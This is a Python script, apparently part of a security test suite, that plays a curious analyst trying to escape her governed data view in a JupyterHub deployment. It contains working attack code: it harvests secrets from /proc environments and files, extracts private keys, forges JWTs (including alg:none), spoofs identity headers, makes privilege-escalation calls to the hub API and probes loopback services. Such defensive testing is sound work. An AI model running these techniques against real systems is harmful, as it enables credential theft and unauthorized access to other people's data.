"""Run inside alice's kernel (OS user alice) by test_attacks.py: everything a curious analyst
can try from her own notebook to read more than her governed view. It reports what it read,
found and got back; the test judges the report. Standard library, requests and pyjwt only
(what the kernel has). CONFIG is prepended by the test: URLs and where to look."""

# ruff: noqa: F821  (CONFIG comes from the test)
import base64
import concurrent.futures
import glob
import json
import os
import re
import threading
import time

import jwt
import pyarrow.ipc
import requests

WARDEN = os.environ["WARDEN_URL"]
HUB_API = os.environ["JUPYTERHUB_API_URL"]
TRIAL = CONFIG["trial"]
report = {
    "uid": os.getuid(),
    "environ_read": [],  # (pid, uid) of every /proc/<pid>/environ read
    "cmdline_read": 0,
    "files_read": [],  # (path, uid of owner)
    "files_refused": [],
    "lake_reads": [],  # what reading the lake directly gave
    "candidates": [],  # every token, secret or key found
    "warden": [],  # every call to the service that answered 200: token kind, whoami or rows
    "warden_refusals": {},  # status -> count
    "hub": [],  # hub API calls with the found tokens: status and body
    "ports": [],  # loopback HTTP services answering with alice's credentials
    "seconds": {},  # time per phase
}
started = time.monotonic()


def phase(name):
    global started
    report["seconds"][name] = round(time.monotonic() - started, 1)
    started = time.monotonic()


candidates = {}  # text -> where found
lock = threading.Lock()
# Secrets look like this: hex, base64(url) or JWTs, with letters and digits, no path.
TOKEN_LIKE = re.compile(
    r"[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]+|[A-Za-z0-9_\-+/]{16,}={0,2}"
)


def harvest(text, where):
    for match in TOKEN_LIKE.findall(text):
        piece = match.rstrip("=")
        if "/" in piece.strip("/") and piece.count(".") != 2:
            continue  # a path, not a secret
        if (
            re.search(r"[0-9]", piece)
            and re.search(r"[A-Za-z]", piece)
            and piece not in candidates
            and len(candidates) < CONFIG["max_candidates"]
        ):
            candidates[piece] = where


# 1. Every process's environment and command line that can be read.
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        owner = os.stat(f"/proc/{pid}").st_uid
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            harvest(handle.read().replace(b"\0", b" ").decode(errors="replace"), f"cmdline {pid}")
            report["cmdline_read"] += 1
        with open(f"/proc/{pid}/environ", "rb") as handle:
            environ = handle.read().decode(errors="replace")
        report["environ_read"].append((int(pid), owner))
        for entry in environ.split("\0"):
            harvest(entry.split("=", 1)[-1], f"environ {pid}")
    except OSError:
        pass

phase("proc")


# 2. Files: the service's data, keys and tokens, the hub's and the IdP's state, other homes,
# temp dirs.
def walk(root, depth=6):
    try:
        entries = os.scandir(root)
    except OSError as error:
        report["files_refused"].append((root, type(error).__name__))
        return
    with entries:
        for entry in entries:
            if entry.name in (
                "node_modules",
                ".git",
                "__pycache__",
                "site-packages",
                ".venv",
                "venv",
            ):
                continue
            try:
                if entry.is_dir(follow_symlinks=False):
                    if depth:
                        walk(entry.path, depth - 1)
                elif entry.is_file(follow_symlinks=False):
                    read_file(entry.path)
            except OSError:
                pass


def read_file(path):
    try:
        info = os.stat(path)
        if info.st_size > 2_000_000:
            return
        with open(path, "rb") as handle:
            data = handle.read()
    except OSError as error:
        report["files_refused"].append((path, type(error).__name__))
        return
    report["files_read"].append((path, info.st_uid))
    if path.startswith(CONFIG["lake"]):
        report["lake_reads"].append({"path": path, "bytes": len(data)})
    interesting = re.search(
        r"(key|token|secret|jwk|pem|json|yaml|env|txt|sqlite|cookie|pass|config)",
        os.path.basename(path),
        re.I,
    )
    if interesting or len(data) < 4096:
        harvest(data.decode(errors="replace"), f"file {path}")


for pattern in CONFIG["globs"]:
    for path in glob.glob(pattern, recursive=True):
        read_file(path)
for path in CONFIG["lake_files"]:  # named in the catalog, which any user can browse
    read_file(path)
for root in CONFIG["roots"]:  # most promising first: candidates are capped
    walk(root)

phase("files")

# 3. Keys to mint with: every candidate as an HMAC secret, every private key found as RSA.
private_keys = []
for where in list(candidates.values()):
    if where.startswith("file "):
        try:
            with open(where[5:], encoding="utf-8", errors="replace") as handle:
                content = handle.read()
        except OSError:
            continue
        for pem in re.findall(
            r"-----BEGIN [A-Z ]*PRIVATE KEY-----.*?-----END [A-Z ]*PRIVATE KEY-----", content, re.S
        ):
            private_keys.append(pem)
        try:
            parsed = json.loads(content)
            keys = parsed.get("keys", []) if isinstance(parsed, dict) else []
            private_keys.extend(
                json.dumps(key) for key in keys if isinstance(key, dict) and "d" in key
            )
        except ValueError:
            pass
report["candidates"] = sorted(candidates)
report["private_keys_found"] = len(private_keys)

now = int(time.time())
claims = {
    "sub": "pat",
    "groups": ["privacy-officers"],
    "attributes": {"clearance": "high"},
    "aud": "warden",
    "iss": "jupyter-server",
    "iat": now,
    "exp": now + 300,
}
forged = []
for secret in sorted(candidates):
    forged.append(("hs256", jwt.encode(claims, secret, algorithm="HS256")))
for key in private_keys:
    try:
        signer = jwt.algorithms.RSAAlgorithm.from_jwk(key) if key.startswith("{") else key
        forged.append(("rs256", jwt.encode(claims, signer, algorithm="RS256")))
    except Exception:
        pass


def unsigned(payload):
    def part(value):
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    return f"{part({'alg': 'none'})}.{part(payload)}."


forged.append(("none", unsigned(claims)))


def call_warden(kind, token, headers=None):
    """whoami, and when that works a scan of the trial, with this credential; what came
    back is reported."""
    auth = {"Authorization": f"Bearer {token}"} if token is not None else {}
    for name, method, path, body in (
        ("whoami", "GET", "/api/v1/whoami", None),
        # As the kernel client asks: withheld cells as nulls, said by indicator columns.
        ("scan", "POST", f"/api/v1/datasets/{TRIAL}/scan", {"limit": 5000, "maskIndicators": True}),
    ):
        try:
            response = requests.request(
                method, WARDEN + path, headers={**auth, **(headers or {})}, json=body, timeout=30
            )
        except requests.RequestException:
            return
        if response.status_code != 200:
            with lock:
                report["warden_refusals"][str(response.status_code)] = (
                    report["warden_refusals"].get(str(response.status_code), 0) + 1
                )
            return
        if name == "whoami":
            answer = {"kind": kind, "whoami": response.json()}
        else:
            table = pyarrow.ipc.open_stream(response.content).read_all()
            data = [name for name in table.column_names if not name.startswith("warden:masked:")]
            rows = table.select(data).to_pylist()
            answer = {"kind": kind, "rows": json.loads(json.dumps(rows, default=str))}
        with lock:
            report["warden"].append(answer)


phase("mint")

# 4. Reuse every token found; then the forged ones; then no token and header tricks.
with concurrent.futures.ThreadPoolExecutor(8) as pool:
    list(pool.map(lambda text: call_warden("found", text), sorted(candidates)))
    list(pool.map(lambda forgery: call_warden(f"forged-{forgery[0]}", forgery[1]), forged))
call_warden("none", None, {"X-Warden-User": "pat", "X-Forwarded-User": "pat"})
own = os.environ["JUPYTERHUB_API_TOKEN"]
call_warden("own", own, {"X-Warden-Client": "job", "X-Remote-User": "pat"})

phase("warden")


# 5. The hub, with every token found: who is it, and can it make alice more than alice?
def hub(method, path, token, body=None):
    try:
        response = requests.request(
            method,
            HUB_API + path,
            headers={"Authorization": f"token {token}"},
            json=body,
            timeout=30,
        )
    except requests.RequestException as error:
        return {"status": None, "error": str(error)}
    return {"status": response.status_code, "body": response.text[:2000]}


with concurrent.futures.ThreadPoolExecutor(8) as pool:
    identified = dict(
        zip(
            sorted(candidates), pool.map(lambda text: hub("GET", "/user", text), sorted(candidates))
        )
    )
for text, answer in identified.items():
    if answer["status"] == 200:
        report["hub"].append({"call": "GET /user", **answer})
        for method, path, body in (
            ("PATCH", "/users/alice", {"admin": True}),
            ("POST", "/groups/privacy-officers/users", {"users": ["alice"]}),
            ("POST", "/users/pat/tokens", {"scopes": ["custom:warden:read"], "expires_in": 3600}),
            (
                "POST",
                "/users/alice/tokens",
                {
                    "scopes": ["custom:warden:read!user=pat", "custom:warden:job!user=pat"],
                    "expires_in": 3600,
                },
            ),
            (
                "POST",
                "/users/alice/tokens",
                {"scopes": ["admin:groups", "admin:users"], "expires_in": 3600},
            ),
            ("GET", "/users", None),
            ("GET", "/users/pat/tokens", None),
        ):
            report["hub"].append({"call": f"{method} {path}", **hub(method, path, text, body)})
        # A token alice may make for herself, used with the service: still alice.
        made = hub(
            "POST",
            "/users/alice/tokens",
            text,
            {"scopes": ["custom:warden:job"], "expires_in": 600},
        )
        if made["status"] == 201:
            call_warden("made-job", json.loads(made["body"])["token"])

phase("hub")

# 6. Every HTTP service listening on loopback (other users' servers, the proxy's API, the
# hub, the IdP, the service), with alice's own token.
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        with open(table) as handle:
            lines = handle.read().splitlines()[1:]
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    except OSError:
        pass


def probe(port):
    for path in CONFIG["port_paths"]:
        try:
            response = requests.get(
                f"http://127.0.0.1:{port}{path}",
                headers={"Authorization": f"token {own}"},
                timeout=2,
                allow_redirects=False,
            )
        except requests.RequestException:
            return  # not HTTP (a kernel's ZMQ port, say)
        if response.status_code == 200:
            with lock:
                report["ports"].append({"port": port, "path": path, "body": response.text[:5000]})


with concurrent.futures.ThreadPoolExecutor(16) as pool:
    list(pool.map(probe, sorted(ports)))

phase("ports")
with open(CONFIG["report_file"], "w") as handle:
    json.dump(report, handle, default=str)
